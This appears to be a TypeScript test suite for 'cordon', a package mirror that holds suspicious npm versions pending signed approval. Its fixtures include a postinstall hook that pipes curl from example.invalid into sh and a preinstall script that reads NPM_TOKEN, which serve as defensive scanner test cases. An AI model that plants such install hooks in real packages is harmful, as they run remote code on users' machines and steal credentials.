import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cordon, DAY, HOUR, NOW, sightAndAnalyse, startApprovalMirror } from '../approvals/approval-mirror';
import { testApprover } from '../approvals/keys';
import type { TestMirror } from '../helpers/mirror';

const alice = testApprover('alice');
const bob = testApprover('bob');
const mallory = testApprover('mallory');
const dir = mkdtempSync(join(tmpdir(), 'cordon-cli-approve-'));
const keyFile = (who: typeof alice) => {
  const path = join(dir, who.approver.name);
  writeFileSync(path, who.privateText, { mode: 0o600 });
  return path;
};

describe('cordon queue / show / approve / reject against a real mirror', () => {
  let m: TestMirror;
  let env: Record<string, string>;
  before(async () => {
    m = await startApprovalMirror([alice, bob], { quorum: { critical: 2 } });
    env = { CORDON_URL: m.mirror.url };
    m.upstream.publish('demo', '1.0.0', { time: NOW - 30 * DAY });
    m.upstream.publish('demo', '1.1.0', {
      time: NOW - HOUR,
      scripts: { postinstall: 'node setup.js' },
      files: { 'setup.js': "require('child_process').exec('curl https://example.invalid/x | sh');\n" },
    });
    m.upstream.publish('demo', '1.2.0', {
      time: NOW - HOUR,
      scripts: { preinstall: 'node x.js' },
      files: { 'x.js': 'process.env.NPM_TOKEN;\n' },
    });
    await sightAndAnalyse(m, 'demo');
  });
  after(async () => {
    await m.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  test('queue lists the held versions with their worst finding and no approvals yet', async () => {
    const r = await cordon(['queue'], env);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /demo@1\.1\.0\s+held\s+needs approval \(2d 23h of cooldown left\)\s+critical\s+0\/2/);
    const json = JSON.parse((await cordon(['queue', '--json'], env)).stdout) as {
      versions: Array<{ version: string; approvedBy: string[] }>;
    };
    assert.deepEqual(
      json.versions.map((v) => v.version),
      ['1.1.0', '1.2.0'],
    );
  });

  test('show prints the findings with file and snippet, the changed files and, with --diff, the unified diff', async () => {
    const r = await cordon(['show', 'demo@1.1.0', '--diff'], env);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /CRITICAL[\s\S]*install-script\/new-postinstall[\s\S]*package\.json/);
    assert.match(r.stdout, /A setup\.js/);
    assert.match(r.stdout, /M package\.json/);
    assert.match(r.stdout, /\+\+\+ b\/package\.json[\s\S]*\+\s+"postinstall": "node setup\.js"/);
    assert.match(r.stdout, /findings digest [0-9a-f]{64}/);
  });

  test('approve: the first of two approvals is recorded, a second one by the same person is refused, the second approver approves', async () => {
    const first = await cordon(['approve', 'demo@1.1.0', '--reason', 'builds the addon', '--key', keyFile(alice)], env);
    assert.equal(first.code, 0, first.stderr);
    assert.match(first.stderr, /You are signing, as alice[\s\S]*APPROVE[\s\S]*demo@1\.1\.0/);
    assert.doesNotMatch(first.stderr + first.stdout, /PRIVATE KEY/);
    assert.match(first.stdout, /alice's approve is recorded\. demo@1\.1\.0 stays held: 1 of 2 approvals/);

    const again = await cordon(['approve', 'demo@1.1.0', '--key', keyFile(alice)], env);
    assert.equal(again.code, 1);
    assert.match(again.stderr, /one approver counts once.*\[ALREADY_SIGNED\]/);

    // bob signs through ssh-keygen -Y sign, as a hardware or agent key would.
    const second = await cordon(['approve', 'demo@1.1.0', '--ssh-keygen'], { ...env, CORDON_KEY: keyFile(bob) });
    assert.equal(second.code, 0, second.stderr);
    assert.match(second.stderr, /via ssh-keygen/);
    assert.match(second.stdout, /demo@1\.1\.0 is now approved \(fast-tracked before its cooldown ended\): 2 of 2 approvals \(alice, bob\)/);
    assert.equal((await fetch(`${m.mirror.url}demo/-/demo-1.1.0.tgz`)).status, 200);
    const audit = (await m.mirror.runtime.store.audit.ofPackage('demo')).map((e) => e.cause);
    assert.deepEqual(audit.slice(-3), ['decision-signed', 'decision-signed', 'approved-fast-track']);
  });

  test('refusals: unknown key, decided version, reject without reason, bad spec, unreachable mirror', async () => {
    const unknown = await cordon(['approve', 'demo@1.2.0', '--key', keyFile(mallory)], env);
    assert.equal(unknown.code, 1);
    assert.match(unknown.stderr, /^cordon approve: This key is not an approver of this mirror.*\[UNKNOWN_SIGNER\]\n$/);
    const decided = await cordon(['reject', 'demo@1.1.0', '--reason', 'x', '--key', keyFile(alice)], env);
    assert.equal(decided.code, 1);
    assert.match(decided.stderr, /demo@1\.1\.0 is approved; only quarantined or held versions.*\[NOT_DECIDABLE\]/);
    const noReason = await cordon(['reject', 'demo@1.2.0', '--key', keyFile(alice)], env);
    assert.equal(noReason.code, 2);
    assert.match(noReason.stderr, /a rejection needs --reason/);
    assert.equal((await cordon(['approve', 'demo', '--key', keyFile(alice)], env)).code, 2);
    const noKey = await cordon(['approve', 'demo@1.2.0'], env);
    assert.equal(noKey.code, 2);
    assert.match(noKey.stderr, /no key: pass --key FILE or set CORDON_KEY/);
    const down = await cordon(['queue', '--registry', 'http://127.0.0.1:9'], env);
    assert.equal(down.code, 3);
    assert.match(down.stderr, /cannot reach the Cordon mirror at http:\/\/127\.0\.0\.1:9\. Check --registry or CORDON_URL/);
    assert.equal((await m.mirror.runtime.store.versions.versionOf('demo', '1.2.0'))?.state, 'held', 'nothing refused changed the state');
  });

  test('reject: one signed rejection moves the version to rejected', async () => {
    const r = await cordon(['reject', 'demo@1.2.0', '--reason', 'reads NPM_TOKEN at install time', '--key', keyFile(bob)], env);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /demo@1\.2\.0 is now rejected; installs will not get it\./);
    assert.equal((await m.mirror.runtime.store.versions.versionOf('demo', '1.2.0'))?.state, 'rejected');
    const tarball = await fetch(`${m.mirror.url}demo/-/demo-1.2.0.tgz`);
    assert.equal(tarball.status, 403);
  });
});
